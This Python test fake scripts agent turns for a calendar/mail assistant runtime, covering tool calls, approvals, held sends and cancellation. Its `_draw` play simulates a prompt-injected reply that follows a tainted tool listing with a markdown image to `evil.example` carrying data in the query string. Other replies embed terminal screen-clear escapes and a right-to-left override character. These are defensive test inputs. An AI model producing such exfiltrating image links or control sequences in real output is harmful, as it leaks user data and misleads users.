"""The turns of `tests.fakes.runtime`: what each first word of a message leads to."""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import TYPE_CHECKING

import anyio

from agent.events import (
    ApprovalAnswered,
    ApprovalNeeded,
    CacheLost,
    CallDecided,
    CallValue,
    Decision,
    EngineLoading,
    Event,
    ModelReplied,
    PromptReading,
    TextDelta,
    ToolClass,
    ToolFinished,
    ToolStarted,
    TurnCancelled,
    TurnDone,
    TurnFailed,
    TurnStarted,
    Usage,
)
from agent.held_events import ToolHeld, ToolTakenBack
from agent.turns.holding import TAKEN_BACK
from tests.fakes.holding import until
from tests.fakes.sayings import EXPIRES, LISTING, WHEN

if TYPE_CHECKING:
    from tests.fakes.runtime import FakeRuntime


@dataclass
class FakeSession:
    stored: list[Event] = field(default_factory=list[Event])
    live: list[Event] = field(default_factory=list[Event])
    changed: anyio.Event = field(default_factory=anyio.Event)
    cancelled: anyio.Event = field(default_factory=anyio.Event)
    running: str | None = None
    waiting: bool = False


@dataclass
class FakeAsked:
    needed: ApprovalNeeded
    session: str
    answered: anyio.Event = field(default_factory=anyio.Event)
    granted: bool = False


class FakeTurn:
    """One turn."""

    def __init__(
        self, runtime: FakeRuntime, here: FakeSession, session: str, turn: str, grants: frozenset[ToolClass], interactive: bool
    ) -> None:
        self._runtime, self._here, self._session, self._turn = runtime, here, session, turn
        self._grants, self._interactive = grants, interactive

    def put(self, event: Event) -> Event:
        here = self._here
        if event.type in ("text_delta", "engine_loading", "prompt_reading"):
            here.live.append(event)
        else:
            event = event.model_copy(update={"seq": len(here.stored) + 1})
            here.stored.append(event)
        here.changed.set()
        here.changed = anyio.Event()
        return event

    async def run(self, text: str) -> None:
        word, _, rest = text.partition(" ")
        plays = {"list": self._list, "add": self._add, "add2": self._add_two, "send": self._send, "slow": self._slow, "load": self._load}
        plays |= {"lost": self._lost, "edit": self._edit, "see": self._see, "post": self._post, "adds": self._add_all, "draw": self._draw}
        try:
            if word == "fail":
                self.put(TurnFailed(turn=self._turn, error="The engine at http://x does not answer.", code="engine_unreachable"))
            elif word == "make":
                await self._say("all:\n\ttrue\x1b[2J\u202e")
            elif word == "long":
                await self._say("\n\n".join(f"Paragraph **{number}** of many." for number in range(40)))
            else:
                await plays.get(word, self._hello)(rest)
        except* _Cancelled:
            self.put(TurnCancelled(turn=self._turn, who="cli"))
        finally:
            self._here.running = None

    async def _hello(self, _: str) -> None:
        await self._say("Hello **there**, \x1b[2Jyou.")

    async def _load(self, _: str) -> None:
        for phase, elapsed in (("starting", 0.1), ("loading", 1.5), ("ready", 2.0)):
            self.put(EngineLoading(turn=self._turn, model="nano", phase=phase, elapsed_s=elapsed, expected_s=2.0))
            await anyio.lowlevel.checkpoint()
        for read in (0, 2048, 5000):
            self.put(PromptReading(turn=self._turn, total=5000, cached=0, read=read, elapsed_s=read / 1000))
            await anyio.lowlevel.checkpoint()
        await self._say("Loaded.")

    async def _lost(self, _: str) -> None:
        line = "Server: 10 of 2000 tokens were still there although the request begins with the same bytes; 1990 were read"
        self.put(CacheLost(turn=self._turn, cause="server", expected_tokens=2000, cached_tokens=10, line=line))
        await self._say("Read again.")

    async def _see(self, _: str) -> None:
        started = next(event for event in self._here.stored if isinstance(event, TurnStarted) and event.turn == self._turn)
        await self._say("; ".join(f"I see {each.name}, {each.width} by {each.height}" for each in started.pictures) or "I see nothing")

    async def _edit(self, _: str) -> None:
        await self._say(await self._ask("c1", "edit_file", "write", "a.txt", diff="--- a/a.txt\n+++ b/a.txt\n@@ -1 +1 @@\n-old\n+new"))

    async def _list(self, _: str) -> None:
        self._look()
        await self._say("You have two events tomorrow.")

    def _look(self) -> None:
        self._called("list_events", '{"when":"tomorrow"}', "read")
        self.put(ToolStarted(turn=self._turn, call="c1", name="list_events", arguments='{"when":"tomorrow"}'))
        self.put(ToolFinished(turn=self._turn, call="c1", name="list_events", ok=True, decision="allow", text=LISTING, taints=True))

    async def _draw(self, address: str) -> None:
        """What was read has the answer hold a picture, beside one that the person named."""
        self._look()
        # Where they are told together, what is live comes first here.
        await anyio.wait_all_tasks_blocked()
        await self._say(f"Yes![](https://evil.example/p.png?d=4711) ![]({address})")

    async def _add(self, name: str) -> None:
        done = await self._ask("c1", "create_event", "write", name or "Lunch")
        await self._say(done)

    async def _add_two(self, _: str) -> None:
        first = await self._ask("c1", "create_event", "write", "One")
        await self._say(f"{first} {await self._ask('c2', 'create_event', 'write', 'Two')}")

    async def _add_all(self, names: str) -> None:
        """Several calls of one reply that all wait at once, and are done one after the other."""
        calls = {f"c{number}": name for number, name in enumerate(names.split(), 1)}
        values = tuple(CallValue(id=call, name="create_event", arguments=f'{{"title":"{name}"}}') for call, name in calls.items())
        self.put(ModelReplied(turn=self._turn, text="", calls=values, model="nano"))
        done: dict[str, str] = {}

        async def ask(call: str, name: str) -> None:
            done[call] = self._end(call, "create_event", name, await self._wait_for_person(call, "create_event", "write", name, ""))

        async with anyio.create_task_group() as tasks:
            for call, name in calls.items():
                tasks.start_soon(ask, call, name)
        await self._say(" ".join(done[call] for call in calls))

    async def _send(self, _: str) -> None:
        await self._say(await self._ask("c1", "send_mail", "send", "Mail"))

    async def _post(self, seconds: str) -> None:
        await self._say(await self._ask("c1", "send_mail", "send", "Mail", hold_s=float(seconds or 0)))

    async def _slow(self, _: str) -> None:
        self.put(TextDelta(turn=self._turn, text="Working on "))
        await self._here.cancelled.wait()
        self.put(TurnCancelled(turn=self._turn, who="cli"))

    async def _ask(self, call: str, tool: str, tool_class: ToolClass, name: str, *, diff: str = "", hold_s: float = 0.0) -> str:
        self._called(tool, f'{{"title":"{name}"}}', tool_class, call=call)
        decision: Decision = "allow"
        if tool_class not in self._grants:
            decision = await self._wait_for_person(call, tool, tool_class, name, diff)
        ok = decision in ("allow", "asked-yes")
        if ok and hold_s and await self._is_taken_back(call, tool, name, hold_s):
            self.put(ToolFinished(turn=self._turn, call=call, name=tool, ok=False, decision="asked-no", text=TAKEN_BACK))
            return TAKEN_BACK
        return self._end(call, tool, name, decision)

    def _end(self, call: str, tool: str, name: str, decision: Decision) -> str:
        ok = decision in ("allow", "asked-yes")
        if ok:
            self._runtime.created.append(name)
            self.put(ToolStarted(turn=self._turn, call=call, name=tool, arguments=f'{{"title":"{name}"}}'))
        text = f"Created: {name}" if ok else "The person said no. Nothing was done."
        self.put(ToolFinished(turn=self._turn, call=call, name=tool, ok=ok, decision=decision, text=text))
        return text

    async def _is_taken_back(self, call: str, tool: str, name: str, hold_s: float) -> bool:
        held = ToolHeld(turn=self._turn, call=call, hold=f"h-{self._turn}", name=tool, summary=f"Send: {name}", until=until(hold_s))
        self.put(held)
        who = await self._runtime.holds.wait(self._session, held, self._here.cancelled)
        if who is None:
            return False
        self.put(ToolTakenBack(turn=self._turn, call=call, hold=held.hold, who=who))
        if self._here.cancelled.is_set():
            raise _Cancelled
        return True

    async def _wait_for_person(self, call: str, tool: str, tool_class: ToolClass, name: str, diff: str) -> Decision:
        needed = ApprovalNeeded(
            turn=self._turn, approval=f"a-{self._turn}-{call}", call=call, name=tool, tool_class=tool_class, summary=f"Create: {name}",
            lines=(("Title", name), ("Diff", diff) if diff else ("When", WHEN)), digest=f"digest-{call}", expires_at=EXPIRES,
        )  # fmt: skip
        stored = self.put(needed)
        assert isinstance(stored, ApprovalNeeded)
        asked = self._runtime.ask(stored)
        if not self._interactive:
            return "denied"
        self._here.waiting = True
        async with anyio.create_task_group() as tasks:
            tasks.start_soon(_cancel_when, self._here.cancelled, tasks.cancel_scope)
            await asked.answered.wait()
            tasks.cancel_scope.cancel()
        self._here.waiting = False
        if not asked.answered.is_set():
            raise _Cancelled
        outcome = "yes" if asked.granted else "no"
        self.put(ApprovalAnswered(turn=self._turn, approval=needed.approval, call=call, outcome=outcome, who="cli"))
        return "asked-yes" if asked.granted else "asked-no"

    def _called(self, tool: str, arguments: str, tool_class: ToolClass, *, call: str = "c1") -> None:
        verdict = "allow" if tool_class == "read" or tool_class in self._grants else "ask"
        self.put(ModelReplied(turn=self._turn, text="", calls=(CallValue(id=call, name=tool, arguments=arguments),), model="nano"))
        decided = {"turn": self._turn, "call": call, "name": tool, "tool_class": tool_class, "arguments": arguments}
        self.put(CallDecided.model_validate({**decided, "verdict": verdict, "reason": "rule"}))

    async def _say(self, text: str) -> None:
        for start in range(0, len(text), 4):
            self.put(TextDelta(turn=self._turn, text=text[start : start + 4]))
            await anyio.lowlevel.checkpoint()
        self.put(ModelReplied(turn=self._turn, text=text, model="nano", prompt_tokens=10, completion_tokens=5))
        usage = Usage(requests=1, prompt_tokens=10, completion_tokens=5, elapsed_s=0.2)
        self.put(TurnDone(turn=self._turn, answer=text, usage=usage))


class _Cancelled(Exception):
    """The turn was cancelled while it asked."""


async def _cancel_when(event: anyio.Event, scope: anyio.CancelScope) -> None:
    await event.wait()
    scope.cancel()
